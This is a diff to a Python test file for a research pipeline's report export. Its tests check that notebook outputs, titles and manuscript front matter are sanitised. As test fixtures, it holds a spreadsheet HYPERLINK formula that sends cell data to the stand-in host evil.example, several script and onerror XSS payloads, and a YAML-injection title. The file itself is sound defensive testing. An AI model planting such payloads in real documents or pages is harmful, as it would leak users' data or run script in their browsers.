@@ -16,7 +16,6 @@ import nbformat
 import numpy as np
 import pandas as pd
 import pytest
-import yaml
 from conftest import make_study
 
 from analysis.pipeline.export import (
@@ -27,8 +26,14 @@ from analysis.pipeline.export import (
     table_to_docx,
     table_to_html,
 )
-from analysis.pipeline.report import combine_notebooks, render_report, sanitize_html
-from analysis.study.paths import StudyPaths
+from analysis.pipeline.manuscript_source import front_matter
+from analysis.pipeline.report import clean_outputs, render_report, sanitize_html, write_manuscript
+from analysis.study.config import load_study
+
+# generated text of the manuscript (its own tests are in tests/pipeline/test_manuscript_report.py)
+REPORT_TEXT = {"verdict": "V.", "summary": "S.", "methods": "M.", "participant-flow": "", "tripod": ""}
+REPORT_SPEC = {"outcome": "y", "predictors": ["x"],
+               "variables": {"x": {"type": "numeric"}, "y": {"type": "binary"}}}
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 SCRIPT_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)> Study"
@@ -148,9 +153,11 @@ def _png() -> str:
 
 
 def test_fallback_report_shows_a_hostile_title_and_outputs_as_text(tmp_path, monkeypatch):
-    paths = StudyPaths("demo", tmp_path)
+    make_study(tmp_path, "demo", {"title": SCRIPT_TITLE, **REPORT_SPEC})
+    study = load_study("demo", root=tmp_path)
+    paths = study.paths
     nb = nbformat.v4.new_notebook()
-    code = nbformat.v4.new_code_cell("x")
+    code = nbformat.v4.new_code_cell("#| label: tbl-table1\n#| tbl-cap: Table <script>x</script>\nx")
     code.outputs = [
         nbformat.v4.new_output("display_data", data={
             "text/html": table_to_html(pd.DataFrame({"Level": [HYPERLINK]}), caption="Table 1")
@@ -160,9 +167,9 @@ def test_fallback_report_shows_a_hostile_title_and_outputs_as_text(tmp_path, mon
     ]
     nb.cells = [nbformat.v4.new_markdown_cell("# Part <img src=x onerror=alert(4)>"), code]
     paths.notebooks.mkdir(parents=True)
-    nbformat.write(nb, paths.notebooks / "01-first.ipynb")
+    nbformat.write(nb, paths.notebooks / "02-describe-cohort.ipynb")
     monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
-    html = render_report(paths, SCRIPT_TITLE, echo=lambda _: None).read_text()
+    html = render_report(study, echo=lambda _: None, inserts=REPORT_TEXT).read_text()
     main = re.search(r"<main>(.*)</main>", html, re.DOTALL).group(1)
     assert "<script" not in main and "javascript:" not in main.lower()
     assert not re.search(r"<[^>]+\son\w+\s*=", main)  # no event-handler attribute on any tag
@@ -172,25 +179,22 @@ def test_fallback_report_shows_a_hostile_title_and_outputs_as_text(tmp_path, mon
     assert re.search(r'<img[^>]+src="data:image/png;base64,', main)
 
 
-def test_combined_notebook_sanitises_html_outputs_and_drops_javascript_for_both_routes(tmp_path):
-    nb = nbformat.v4.new_notebook()
+def test_embedded_outputs_are_sanitised_and_drop_javascript_for_both_routes():
     code = nbformat.v4.new_code_cell("x")
     code.outputs = [nbformat.v4.new_output("display_data", data={
         "text/html": "<p>kept</p><script>alert(1)</script>",
         "application/javascript": "alert(2)", "text/plain": "x"})]
-    nb.cells = [code]
-    nbformat.write(nb, tmp_path / "01-a.ipynb")
-    out = combine_notebooks([tmp_path / "01-a.ipynb"], "T").cells[1].outputs[0]["data"]
+    out = clean_outputs(code)[0]["data"]
     assert out["text/html"] == "<p>kept</p>&lt;script&gt;alert(1)&lt;/script&gt;"
     assert "application/javascript" not in out and out["text/plain"] == "x"
 
 
 def test_front_matter_title_cannot_inject_yaml_or_markup(tmp_path):
-    nb = combine_notebooks([], 'Evil"\ntoc: false\n<script>x</script> \\ end')
-    front = yaml.safe_load(nb.cells[0].source.strip("-\n").split("\n---")[0])
-    assert set(front) == {"title", "format", "execute"}
+    make_study(tmp_path, "demo", {"title": 'Evil"\ntoc: false\n<script>x</script> \\ end', **REPORT_SPEC})
+    text = write_manuscript(load_study("demo", root=tmp_path), REPORT_TEXT).read_text()
+    front = front_matter(text)
+    assert set(front) == {"title", "subtitle"}
     assert "<script>" not in front["title"] and "&lt;script&gt;" in front["title"]
-    assert front["format"]["html"]["toc"] is True
 
 
 # --------------------------------------------------------------------------------------
